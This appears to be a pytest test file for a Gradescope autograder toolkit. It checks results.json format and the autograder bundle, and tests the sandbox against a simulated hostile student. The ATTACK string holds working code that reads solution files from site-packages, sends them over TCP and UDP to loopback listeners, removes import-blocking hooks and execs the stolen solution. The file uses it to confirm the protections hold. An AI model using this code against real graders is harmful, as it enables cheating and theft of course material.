"""Gradescope: results.json per submission (checked against Gradescope's documented
format by hand, not by our own model), --gradescope / --gradescope-out, and the
autograder zip, unpacked and run as Gradescope's container would run it."""

from __future__ import annotations

import json
import os
import shutil
import socket
import stat
import subprocess
import sys
import threading
import time
import zipfile
from pathlib import Path

import pytest
from processes import slot_uid_processes

from grader.cli import main
from grader.diagnoses import describe
from grader.models import CheckResult, RunResult, SubmissionResult
from grader.protections import PROTECTIONS
from grader.report.gradescope import (
    GradescopeError,
    gradescope_results,
    project_files,
    tomllib,
    write_gradescope,
)

ROOT = Path(__file__).resolve().parent.parent
EXAMPLES = ROOT / "examples" / "submissions"

# Gradescope's autograder specification: the keys it reads and the values it accepts.
TOP_KEYS = {"score", "execution_time", "output", "output_format", "test_output_format", "test_name_format",
            "visibility", "stdout_visibility", "extra_data", "tests", "leaderboard"}
TEST_KEYS = {"score", "max_score", "status", "name", "name_format", "number", "output", "output_format",
             "tags", "visibility", "extra_data"}
VISIBILITY = {"hidden", "after_due_date", "after_published", "visible"}
FORMATS = {"text", "html", "simple_format", "md", "ansi"}


def assert_gradescope_format(doc: dict) -> None:
    assert isinstance(doc, dict) and set(doc) <= TOP_KEYS, set(doc) - TOP_KEYS
    tests = doc.get("tests", [])
    assert isinstance(doc.get("score"), (int, float)) or all("score" in t for t in tests)
    for key in ("visibility", "stdout_visibility"):
        assert doc.get(key, "visible") in VISIBILITY
    for key in ("output_format", "test_output_format", "test_name_format"):
        assert doc.get(key, "text") in FORMATS
    assert isinstance(doc.get("output", ""), str) and isinstance(doc.get("extra_data", {}), dict)
    assert isinstance(doc.get("execution_time", 0), int)
    for t in tests:
        assert set(t) <= TEST_KEYS, set(t) - TEST_KEYS
        assert isinstance(t["name"], str) and t["name"]
        assert isinstance(t["score"], (int, float)) and isinstance(t["max_score"], (int, float))
        assert 0 <= t["score"] <= t["max_score"]
        assert t["status"] in ("passed", "failed")
        assert t.get("visibility", "visible") in VISIBILITY
        assert t.get("output_format", "text") in FORMATS and isinstance(t.get("output", ""), str)
    if tests:
        assert doc["score"] == pytest.approx(sum(t["score"] for t in tests))


def chk(id_, passed, score, max_score, visibility="public", **extra) -> CheckResult:
    return CheckResult(id=id_, function=id_.split(".")[0], kind=extra.pop("kind", "numeric"),
                       visibility=visibility, passed=passed, score=score, max_score=max_score, **extra)


def student(name="carol") -> SubmissionResult:
    return SubmissionResult(
        student=name, source=f"{name}/cnn_layers.py", status="graded", score=3.0, max_score=9.0,
        diagnoses=["conv.flipped_kernel", "submission.timeout"], load_mode="definitions",
        notes=["The top level ran longer than 5 s."], output="epoch 0\n",
        checks=[
            chk("conv_output_size.rules", True, 1, 1, description="7x7 with 3x3 gives 5x5."),
            chk("conv2d_forward.lecture", False, 0, 2, message="y[0,0,0,0] is -5, expected 25",
                diagnoses=["conv.flipped_kernel"],
                details={"mismatch": {"name": "y", "index": [0, 0, 0, 0], "got": -5, "expected": 25,
                                      "max_abs_error": 40, "relative_error": 1.48, "n_bad": 9, "size": 9}}),
            chk("conv2d_forward.secret", False, 0, 4, visibility="hidden", message="SECRET 0.123456",
                description="SECRET inputs", diagnoses=["submission.timeout"]),
            chk("conv2d_backward.grads", True, 2, 2, kind="gradient",
                details={"relative_errors": {"dx": 1e-9, "dw": 2e-9}}),
        ])


def run_of(*subs) -> RunResult:
    return RunResult(assignment="cnn", toolkit_version="0.1.0", graded_at="2026-11-25T17:00:00Z",
                     submissions=list(subs), max_score=9.0)


def test_results_follow_gradescope_format_with_hidden_checks_released_after_publishing():
    doc = json.loads(gradescope_results(run_of(student()), student()).model_dump_json())
    assert_gradescope_format(doc)
    assert doc["score"] == 3.0 and doc["stdout_visibility"] == "hidden"
    tests = {t["name"]: t for t in doc["tests"]}
    assert list(tests) == ["conv_output_size: rules", "conv2d_forward: lecture", "conv2d_forward: secret (hidden)",
                           "conv2d_backward: grads"]
    assert [t["number"] for t in doc["tests"]] == ["1.1", "2.1", "2.2", "3.1"]
    hidden = tests["conv2d_forward: secret (hidden)"]
    assert hidden["visibility"] == "after_published" and hidden["status"] == "failed"
    assert hidden["max_score"] == 4 and "SECRET" not in json.dumps(hidden)
    assert all(t["visibility"] == "visible" for name, t in tests.items() if "hidden" not in name)


def test_test_output_says_what_failed_why_and_where():
    doc = gradescope_results(run_of(student()), student())
    lecture = doc.tests[1].output
    flipped = describe("conv.flipped_kernel")
    assert lecture.startswith("y[0,0,0,0] is -5, expected 25")
    assert flipped.sentence in lecture and (not flipped.hint or flipped.hint in lecture)
    assert "First mismatch: y[0,0,0,0]: got -5, expected 25" in lecture and "9 of 9 values differ" in lecture
    assert doc.tests[0].output == "7x7 with 3x3 gives 5x5."
    assert "Relative error per gradient: dx 1e-09, dw 2e-09" in doc.tests[3].output


def test_overall_output_tells_how_the_file_ran_without_hidden_findings():
    output = gradescope_results(run_of(student()), student()).output
    assert "Graded file: carol/cnn_layers.py" in output and "definitions alone" in output
    assert "ran longer than 5 s" in output
    assert "epoch 0" not in output and "kept for course staff" in output  # hidden checks ran
    assert describe("conv.flipped_kernel").sentence in output
    assert describe("submission.timeout").sentence not in output  # only a hidden check found it
    assert "SECRET" not in output


def test_a_submission_that_could_not_run_gets_zero_and_the_reason():
    broken = SubmissionResult(student="zed", source="zed.py", status="error", score=0, max_score=9,
                              diagnoses=["submission.syntax_error"], message="line 3 does not parse")
    doc = json.loads(gradescope_results(run_of(broken), broken).model_dump_json())
    assert_gradescope_format(doc)
    assert doc["score"] == 0 and doc["tests"] == []
    assert "line 3 does not parse" in doc["output"] and describe("submission.syntax_error").sentence in doc["output"]


def test_write_gradescope_one_file_per_student_or_exactly_one_file(tmp_path):
    run = run_of(student("amy"), student("b o/b"))
    write_gradescope(run, tmp_path)
    assert sorted(p.name for p in (tmp_path / "gradescope").iterdir()) == ["amy.json", "b_o_b.json"]
    with pytest.raises(GradescopeError, match="one submission"):
        write_gradescope(run, None, tmp_path / "results.json")
    write_gradescope(run_of(student("amy")), None, tmp_path / "deep" / "results.json")
    assert_gradescope_format(json.loads((tmp_path / "deep" / "results.json").read_text()))


def test_cli_gradescope_writes_a_valid_file_per_student(tmp_path):
    out = tmp_path / "out"
    assert main([str(EXAMPLES / "rnn"), "--out", str(out), "--timeout", "2", "-q", "--gradescope"]) == 0
    students = {s["student"] for s in json.loads((out / "results.json").read_text())["submissions"]}
    files = {p.stem: json.loads(p.read_text()) for p in (out / "gradescope").glob("*.json")}
    assert set(files) == students and len(students) == 5
    for doc in files.values():
        assert_gradescope_format(doc)


def test_cli_gradescope_out_writes_exactly_one_file(tmp_path, capsys):
    target = tmp_path / "results" / "results.json"
    args = ["--out", str(tmp_path / "out"), "--timeout", "2", "-q", "--gradescope-out", str(target)]
    assert main([str(EXAMPLES / "rnn" / "dave.py"), *args]) == 0
    assert_gradescope_format(json.loads(target.read_text()))
    assert not (tmp_path / "out" / "gradescope").exists()
    assert main([str(EXAMPLES / "rnn"), *args]) == 2
    assert "one submission" in capsys.readouterr().err


# -- the autograder zip ----------------------------------------------------------------


def unpack(zip_path: Path, into: Path) -> Path:
    """As Gradescope unpacks it: `unzip`, which keeps the mode bits (zipfile would not)."""
    if shutil.which("unzip"):
        subprocess.run(["unzip", "-q", str(zip_path), "-d", str(into)], check=True)
    else:
        with zipfile.ZipFile(zip_path) as archive:
            for info in archive.infolist():
                archive.extract(info, into)
                os.chmod(into / info.filename, (info.external_attr >> 16) & 0o777)
    return into


@pytest.fixture(scope="module")
def bundle(tmp_path_factory):
    folder = tmp_path_factory.mktemp("bundle")
    assert main(["gradescope-bundle", "--assignment", "cnn", "--out", str(folder / "autograder.zip")]) == 0
    return folder / "autograder.zip"


def test_bundle_holds_the_scripts_and_the_toolkit_source(bundle, tmp_path):
    names = zipfile.ZipFile(bundle).namelist()
    for name in ("setup.sh", "run_autograder", "pyproject.toml", "grader/cli.py", "grader/report/gradescope.py",
                 "grader/report/templates/student.html.j2", "grader/worker/serve.py",
                 "assignments/cnn/__init__.py", "reference/cnn.py"):
        assert name in names
    assert not [n for n in names if "__pycache__" in n or n.endswith(".pyc") or n.startswith(("tests/", "examples/"))]
    src = unpack(bundle, tmp_path)
    for script in ("setup.sh", "run_autograder"):
        path = src / script
        assert path.stat().st_mode & stat.S_IXUSR, f"{script} is not executable"
        assert path.read_text().startswith("#!/usr/bin/env bash\n")
        subprocess.run(["bash", "-n", str(path)], check=True)  # it parses
    run = (src / "run_autograder").read_text()
    assert '-m grader "$WORK/class" --assignment cnn' in run and '--gradescope-out "$RESULTS"' in run
    assert "/autograder/submission" in run and "/autograder/results/results.json" in run
    setup = (src / "setup.sh").read_text()
    assert 'ROOT="${NNGRADE_AUTOGRADER:-/autograder}"' in setup and 'SOURCE="${NNGRADE_SOURCE:-$ROOT/source}"' in setup
    assert 'pip install --quiet "$SOURCE"' in setup


def test_bundle_is_the_same_zip_every_time_and_refuses_unknown_assignments(bundle, tmp_path, capsys):
    again = tmp_path / "again.zip"
    assert main(["gradescope-bundle", "-a", "cnn", "-o", str(again)]) == 0
    assert again.read_bytes() == bundle.read_bytes()
    assert main(["gradescope-bundle", "--assignment", "nope", "--out", str(tmp_path / "x.zip")]) == 2
    assert "unknown assignment 'nope'" in capsys.readouterr().err and not (tmp_path / "x.zip").exists()


def test_run_autograder_grades_a_submission_as_in_gradescopes_container(bundle, tmp_path):
    src = unpack(bundle, tmp_path / "source")
    root = tmp_path / "autograder"
    (root / "submission" / "extra").mkdir(parents=True)
    shutil.copy(EXAMPLES / "cnn" / "carol" / "cnn_layers.py", root / "submission")
    (root / "submission" / "extra" / "notes.txt").write_text("my notes")
    # The bundle's own copy of the toolkit runs (PYTHONPATH), with this interpreter's packages.
    env = {**os.environ, "NNGRADE_AUTOGRADER": str(root), "NNGRADE_PYTHON": sys.executable,
           "PYTHONPATH": str(src)}
    proc = subprocess.run([str(src / "run_autograder")], cwd=root, env=env, capture_output=True, text=True,
                          check=False, timeout=300)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    doc = json.loads((root / "results" / "results.json").read_text())
    assert_gradescope_format(doc)
    assert 0 < doc["score"] < sum(t["max_score"] for t in doc["tests"])
    assert "Graded file: submission/cnn_layers.py" in doc["output"]
    assert any(t["name"].startswith("conv2d_forward:") and t["status"] == "failed" for t in doc["tests"])
    for t in doc["tests"]:
        if t["name"].endswith("(hidden)"):
            assert t["visibility"] == "after_published" and " is " not in t["output"]  # no "y[..] is .."


def _run_autograder(src: Path, root: Path) -> dict:
    env = {**os.environ, "NNGRADE_AUTOGRADER": str(root), "NNGRADE_PYTHON": sys.executable,
           "PYTHONPATH": str(src)}
    proc = subprocess.run([str(src / "run_autograder")], cwd=root, env=env, capture_output=True, text=True,
                          check=False, timeout=300)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    doc = json.loads((root / "results" / "results.json").read_text())
    assert_gradescope_format(doc)
    return doc


def test_a_courses_bundle_grades_a_submission_written_as_the_course_writes_it(tmp_path):
    """cs231n's handout layers.py: its names and layouts, caches kept in the worker, its
    points, and the hidden checks released after publishing."""
    zip_path = tmp_path / "autograder.zip"
    assert main(["gradescope-bundle", "--assignment", "cs231n", "--out", str(zip_path)]) == 0
    src = unpack(zip_path, tmp_path / "source")
    assert "--assignment cs231n" in (src / "run_autograder").read_text()
    assert (src / "assignments" / "cs231n" / "contract.toml").is_file()
    root = tmp_path / "autograder"
    (root / "submission").mkdir(parents=True)
    shutil.copy(EXAMPLES / "cs231n" / "carol" / "layers.py", root / "submission")
    doc = _run_autograder(src, root)
    assert sum(t["max_score"] for t in doc["tests"]) == pytest.approx(100)
    assert 0 < doc["score"] < 100 and "Graded file: submission/layers.py" in doc["output"]
    failed = {t["name"] for t in doc["tests"] if t["status"] == "failed"}
    assert "conv_forward_naive: lecture_two_channel_example" in failed
    assert all(not name.startswith(("affine", "relu", "max_pool", "softmax")) for name in failed), failed
    assert any("conv.flipped_kernel" in t["output"] for t in doc["tests"] if t["status"] == "failed")
    for t in doc["tests"]:
        if t["name"].endswith("(hidden)"):
            assert t["visibility"] == "after_published"


def test_a_bundle_carries_a_course_of_ones_own(tmp_path, capsys):
    from test_contracts import _readme_blocks

    blocks = _readme_blocks("Your own course")
    folder = tmp_path / "course"
    folder.mkdir()
    (folder / "contract.toml").write_text(blocks["toml"])
    (folder / "checks.py").write_text(blocks["python"])
    (folder / "solution_notes.txt").write_text("not for the zip")
    zip_path = tmp_path / "autograder.zip"
    assert main(["gradescope-bundle", "--course", str(folder), "--out", str(zip_path)]) == 0
    names = zipfile.ZipFile(zip_path).namelist()
    assert {"assignments/dense/contract.toml", "assignments/dense/checks.py"} <= set(names)
    assert not any("solution_notes" in n for n in names)
    src = unpack(zip_path, tmp_path / "source")
    assert "--assignment dense" in (src / "run_autograder").read_text()
    root = tmp_path / "autograder"
    (root / "submission").mkdir(parents=True)
    (root / "submission" / "dense.py").write_text(
        "import numpy as np\n\ndef dense_forward(X, W, b):\n    return W @ X\n\n"
        "def dense_backward(dZ, X, W, b):\n    return W.T @ dZ, dZ @ X.T, dZ.sum(axis=1, keepdims=True)\n")
    doc = _run_autograder(src, root)
    failed = {t["name"] for t in doc["tests"] if t["status"] == "failed"}
    assert "dense_forward: one_example_as_a_column" in failed and all(n.startswith("dense_forward") for n in failed)
    # A course named like a shipped assignment would be shadowed by it: refused.
    (folder / "contract.toml").write_text(blocks["toml"].replace('name = "dense"', 'name = "cnn"'))
    assert main(["gradescope-bundle", "--course", str(folder), "--out", str(tmp_path / "x.zip")]) == 2
    assert "already has an assignment 'cnn'" in capsys.readouterr().err


def test_bundle_source_builds_into_a_complete_package(bundle, tmp_path):
    src = unpack(bundle, tmp_path / "source")
    proc = subprocess.run([sys.executable, "-m", "pip", "wheel", "--no-deps", "--no-build-isolation", "-q",
                           "-w", str(tmp_path / "wheel"), str(src)], capture_output=True, text=True, timeout=300,
                          check=False)
    assert proc.returncode == 0, proc.stderr
    wheel = next((tmp_path / "wheel").glob("nngrade-*.whl"))
    names = zipfile.ZipFile(wheel).namelist()
    for name in ("grader/report/templates/student.html.j2", "grader/report/templates/gradescope/run_autograder.j2",
                 "assignments/cnn/__init__.py", "reference/rnn.py", "assignments/cnn/canonical.toml",
                 "assignments/cs231n/contract.toml", "assignments/fman45/contract.toml"):
        assert name in names


def test_an_installed_copy_without_pyproject_gets_one_from_its_metadata(tmp_path):
    [(name, data)] = project_files(tmp_path)
    project = tomllib.loads(data.decode())["project"]
    assert name == "pyproject.toml" and project["name"] == "nngrade"
    assert any(r.startswith("numpy") for r in project["dependencies"])
    assert not any(r.startswith("pytest") for r in project["dependencies"])


# -- the bundle as Gradescope runs it: root, no bubblewrap, a hostile student ------------

# Zeros of the right shape from every function: what this submission earns honestly.
STUBS = '''

def conv_output_size(n, f, pad=0, stride=1):
    return 0


def _size(n, f, pad, stride):
    return (n + 2 * pad - f) // stride + 1


def conv2d_forward(x, w, b, stride=1, pad=0):
    return np.zeros((x.shape[0], _size(x.shape[1], w.shape[0], pad, stride),
                     _size(x.shape[2], w.shape[1], pad, stride), w.shape[3]))


def conv2d_backward(dy, x, w, b, stride=1, pad=0):
    return np.zeros(np.shape(x)), np.zeros(np.shape(w)), np.zeros(np.shape(b))


def maxpool_forward(x, size=2, stride=2):
    return np.zeros((x.shape[0], (x.shape[1] - size) // stride + 1, (x.shape[2] - size) // stride + 1, x.shape[3]))


def maxpool_backward(dy, x, size=2, stride=2):
    return np.zeros(np.shape(x))


def relu_forward(x):
    return np.zeros(np.shape(x))


def relu_backward(dy, x):
    return np.zeros(np.shape(x))


def linear_forward(x, w, b):
    return np.zeros((np.shape(x)[0], np.shape(w)[1]))


def linear_backward(dy, x, w, b):
    return np.zeros(np.shape(x)), np.zeros(np.shape(w)), np.zeros(np.shape(b))


def softmax_cross_entropy(z, labels):
    return 0.0, np.zeros(np.shape(z))
'''

# At import: read the installed toolkit's solution and checks (where this interpreter's
# site-packages is, or where the test says it is), send them out over TCP and UDP,
# import a forbidden package with the hooks removed, and answer conv2d_forward with the
# reference if it was read.
ATTACK = '''"""The stubs, plus everything a student who knows Gradescope's container would try."""
import glob
import os
import socket
import sys
import types

import numpy as np

SITES = {"@SITE@"}
for prefix in (sys.prefix, os.path.dirname(os.path.dirname(os.path.abspath(sys.executable)))):
    SITES.update(glob.glob(os.path.join(prefix, "lib", "python3*", "site-packages")))
WANTED = ["reference/cnn.py", "reference/_cnn_checks.py", "assignments/cnn/__init__.py",
          "assignments/cnn/checks.py", "assignments/cnn/checks_conv.py", "assignments/cnn/cases.py"]
STOLEN = {}
for site in sorted(SITES):
    paths = {os.path.join(site, rel) for rel in WANTED} | set(glob.glob(os.path.join(site, "assignments", "cnn", "*.py")))
    for path in sorted(paths):
        try:
            with open(path) as f:
                STOLEN[path] = f.read()
            print("LEAK read", path)
        except OSError as exc:
            print("read refused", path, type(exc).__name__)

PAYLOAD = ("".join(f"== {p}\\n{t}" for p, t in STOLEN.items()) or "== nothing read").encode()
try:
    with socket.create_connection(("127.0.0.1", @TCP@), timeout=2) as conn:
        conn.sendall(PAYLOAD)
    print("LEAK sent over tcp")
except OSError as exc:
    print("tcp refused", type(exc).__name__)
try:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.sendto(PAYLOAD[:60000], ("127.0.0.1", @UDP@))
    print("LEAK sent over udp")
except OSError as exc:
    print("udp refused", type(exc).__name__)

hooks = list(sys.meta_path)
sys.meta_path[:] = [f for f in hooks if "Blocker" not in type(f).__name__ and "Toolkit" not in type(f).__name__]
try:
    import scipy.signal  # noqa: F401 - forbidden
    print("LEAK imported scipy.signal")
except Exception as exc:  # noqa: BLE001 - refused in whatever way
    print("refused scipy.signal", type(exc).__name__)
sys.meta_path[:] = hooks

STOLEN_CONV = None
reference = [t for p, t in STOLEN.items() if p.endswith("reference/cnn.py")]
helpers = [t for p, t in STOLEN.items() if p.endswith("reference/_cnn_checks.py")]
if reference and helpers:
    checks = types.ModuleType("reference._cnn_checks")
    exec(helpers[0], checks.__dict__)
    sys.modules.setdefault("reference", types.ModuleType("reference"))
    sys.modules["reference._cnn_checks"] = checks
    solution = {}
    exec(reference[0], solution)
    STOLEN_CONV = solution["conv2d_forward"]
''' + STUBS + '''

if STOLEN_CONV is not None:
    conv2d_forward = STOLEN_CONV  # noqa: F811 - the solution, if it could be read
'''

# The control: the same file run directly by the installed interpreter, as root and
# unconfined, proves the attack works where nothing stops it.
CONTROL = '''import importlib.util, sys
import numpy as np
from reference.cnn import conv2d_forward as solution
spec = importlib.util.spec_from_file_location("hostile", sys.argv[1])
hostile = importlib.util.module_from_spec(spec)
spec.loader.exec_module(hostile)
rng = np.random.default_rng(0)
x, w, b = rng.standard_normal((2, 5, 5, 3)), rng.standard_normal((3, 3, 3, 4)), rng.standard_normal(4)
print("CONV", np.allclose(hostile.conv2d_forward(x, w, b, 1, 1), solution(x, w, b, 1, 1)))
'''


class _Listener:
    """A TCP and a UDP socket on loopback that keep whatever reaches them."""

    def __init__(self):
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.tcp.settimeout(0.1)
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.udp.settimeout(0.1)
        self.received: list[tuple[str, bytes]] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._watch, daemon=True)
        self._thread.start()

    def _watch(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.tcp.accept()
                conn.settimeout(2)
                with conn:
                    data = b"".join(iter(lambda: conn.recv(65536), b""))
                self.received.append(("tcp", data))
            except OSError:
                pass
            try:
                self.received.append(("udp", self.udp.recvfrom(65536)[0]))
            except OSError:
                pass

    def ports(self) -> dict[str, str]:
        return {"@TCP@": str(self.tcp.getsockname()[1]), "@UDP@": str(self.udp.getsockname()[1])}

    def close(self) -> list[tuple[str, bytes]]:
        time.sleep(0.3)  # a datagram in flight
        self._stop.set()
        self._thread.join()
        self.tcp.close()
        self.udp.close()
        return self.received


def _fill(template: str, values: dict[str, str]) -> str:
    for key, value in values.items():
        template = template.replace(key, value)
    return template


@pytest.fixture(scope="module")
def gradescope_container(bundle, tmp_path_factory):
    """setup.sh and run_autograder as Gradescope runs them: as root, with an interpreter
    only root can read (this one, under /root), no bubblewrap (NNGRADE_SANDBOX=none),
    from the unpacked source folder (its `grader` folder would come first on Python's
    path if the scripts let the working directory in); once on the stubs, once on the
    same stubs with the attacks."""
    tmp = tmp_path_factory.mktemp("container")
    running_before = set(slot_uid_processes())
    root = tmp / "autograder"
    root.mkdir()
    source = unpack(bundle, root / "source")
    env = {k: v for k, v in os.environ.items() if k not in ("PYTHONPATH", "PYTHONHOME", "VIRTUAL_ENV")}
    env.update(NNGRADE_AUTOGRADER=str(root), NNGRADE_SKIP_APT="1", NNGRADE_PYTHON3=sys.executable)
    started = time.monotonic()
    setup = subprocess.run(["bash", str(source / "setup.sh")], cwd=source, env=env, capture_output=True, text=True,
                           timeout=300, check=False)
    assert setup.returncode == 0, setup.stdout[-3000:] + setup.stderr[-3000:]
    python = root / "venv" / "bin" / "python"
    site = Path(subprocess.run([str(python), "-I", "-c", "import grader, os; print(os.path.dirname("
                                "os.path.dirname(os.path.realpath(grader.__file__))))"],
                               cwd=tmp, capture_output=True, text=True, check=True).stdout.strip())
    setup_seconds = time.monotonic() - started

    listener = _Listener()
    values = {"@SITE@": str(site), **listener.ports()}
    (root / "submission").mkdir()
    (root / "submission" / "cnn_layers.py").write_text(_fill(ATTACK, values))
    (tmp / "stubs").mkdir()
    (tmp / "stubs" / "cnn_layers.py").write_text("import numpy as np\n" + STUBS)

    control_listener = _Listener()
    control_file = tmp / "control" / "cnn_layers.py"
    control_file.parent.mkdir()
    control_file.write_text(_fill(ATTACK, {"@SITE@": str(site), **control_listener.ports()}))
    control = subprocess.run([str(python), "-I", "-c", CONTROL, str(control_file)], cwd=tmp, capture_output=True,
                             text=True, timeout=120, check=False)
    control_received = control_listener.close()

    def run_autograder(**extra):
        return subprocess.run([str(source / "run_autograder")], cwd=source, capture_output=True, text=True,
                              env={**env, "NNGRADE_SANDBOX": "none", **extra}, timeout=300, check=False)

    started = time.monotonic()
    try:
        stubs = run_autograder(NNGRADE_SUBMISSION=str(tmp / "stubs"), NNGRADE_RESULTS=str(tmp / "stubs.json"))
        hostile = run_autograder(NNGRADE_REPORTS=str(tmp / "reports"))
    finally:
        received = listener.close()
    return {"root": root, "site": site, "setup": setup, "setup_seconds": setup_seconds, "stubs": stubs,
            "hostile": hostile, "received": received, "control": control, "control_received": control_received,
            "reports": tmp / "reports", "stubs_results": tmp / "stubs.json",
            "grading_seconds": time.monotonic() - started,
            # What a slot's uid runs after the run: new since it started and not another
            # checkout's worker host (another session's tests may be running on this machine).
            "left": {pid: cmd for pid, cmd in slot_uid_processes().items() if pid not in running_before
                     and not ("grader.worker.zygote" in cmd and str(site) not in cmd)}}


def _results(container, which: str) -> dict:
    proc = container[which]
    assert proc.returncode == 0, proc.stdout[-3000:] + proc.stderr[-3000:]
    path = container["stubs_results"] if which == "stubs" else container["root"] / "results" / "results.json"
    return json.loads(path.read_text())


def test_the_attack_works_where_nothing_stops_it(gradescope_container):
    control = gradescope_container["control"]
    assert "CONV True" in control.stdout, control.stdout[-3000:] + control.stderr[-3000:]
    assert "LEAK read" in control.stdout and "LEAK sent over tcp" in control.stdout
    received = gradescope_container["control_received"]
    assert {kind for kind, _ in received} == {"tcp", "udp"}
    assert any(b"def conv2d_forward" in data for _, data in received)


def test_setup_installs_the_toolkit_where_only_root_can_read_it(gradescope_container):
    site, root = gradescope_container["site"], gradescope_container["root"]
    assert (root / "venv") in site.parents, site  # the installed copy, not the unpacked source
    for package in ("grader", "reference", "assignments"):
        for path in [site / package, *(site / package).rglob("*")]:
            assert stat.S_IMODE(path.stat().st_mode) & 0o077 == 0, f"{path} is {oct(path.stat().st_mode)}"


def test_results_are_written_in_gradescopes_format(gradescope_container):
    for which in ("stubs", "hostile"):
        assert_gradescope_format(_results(gradescope_container, which))


def test_reading_the_solution_earned_nothing(gradescope_container):
    stubs, hostile = _results(gradescope_container, "stubs"), _results(gradescope_container, "hostile")
    assert hostile["score"] == stubs["score"]
    assert [(t["name"], t["score"]) for t in hostile["tests"]] == [(t["name"], t["score"]) for t in stubs["tests"]]


def test_nothing_reached_the_listeners(gradescope_container):
    assert gradescope_container["received"] == []


def test_the_hostile_student_tried_and_was_refused_everything(gradescope_container):
    _results(gradescope_container, "hostile")
    run = json.loads((gradescope_container["reports"] / "results.json").read_text())
    [sub] = run["submissions"]
    assert "LEAK" not in sub["output"], sub["output"][-3000:]
    assert "read refused" in sub["output"] and "tcp refused" in sub["output"] and "udp refused" in sub["output"]
    assert "scipy.signal" in sub["forbidden_imports"]


def test_every_protection_held_but_namespaces(gradescope_container):
    _results(gradescope_container, "hostile")
    run = json.loads((gradescope_container["reports"] / "results.json").read_text())
    assert run["sandbox"] == "none"
    assert [p["name"] for p in run["protections"] if not p["held"]] == ["own_namespace"], run["protections"]
    said = [line for line in gradescope_container["hostile"].stderr.splitlines() if line.startswith("NOT held")]
    assert said == [f"NOT held in this run: {PROTECTIONS['own_namespace']}"], said


def test_no_process_of_a_slot_uid_is_left(gradescope_container):
    assert gradescope_container["left"] == {}


def test_a_bundle_built_with_config_grades_with_the_instructors_points(tmp_path, capsys):
    config = ROOT / "examples" / "config" / "course.toml"
    zip_path = tmp_path / "autograder.zip"
    assert main(["gradescope-bundle", "-a", "cnn", "--config", str(config), "--out", str(zip_path)]) == 0
    root = tmp_path / "autograder"
    root.mkdir()
    src = unpack(zip_path, root / "source")  # where Gradescope puts it
    assert (src / "nngrade-config.toml").read_bytes() == config.read_bytes()
    (root / "submission").mkdir(parents=True)
    shutil.copy(EXAMPLES / "cnn" / "alice" / "cnn_layers.py", root / "submission")
    doc = _run_autograder(src, root)  # NNGRADE_SOURCE unset: the config is found in $ROOT/source
    conv = [t for t in doc["tests"] if t["name"].startswith("conv2d_forward:")]
    assert sum(t["max_score"] for t in conv) == pytest.approx(25)  # the config's points, not cnn's 20
    # A config with an error is refused when the bundle is built, not in Gradescope's container.
    bad = tmp_path / "bad.toml"
    bad.write_text('assignment = "cnn"\n[points]\nconv2d_forwards = 3\n')
    assert main(["gradescope-bundle", "-a", "cnn", "--config", str(bad), "--out", str(tmp_path / "x.zip")]) == 2
    assert "conv2d_forwards" in capsys.readouterr().err and not (tmp_path / "x.zip").exists()
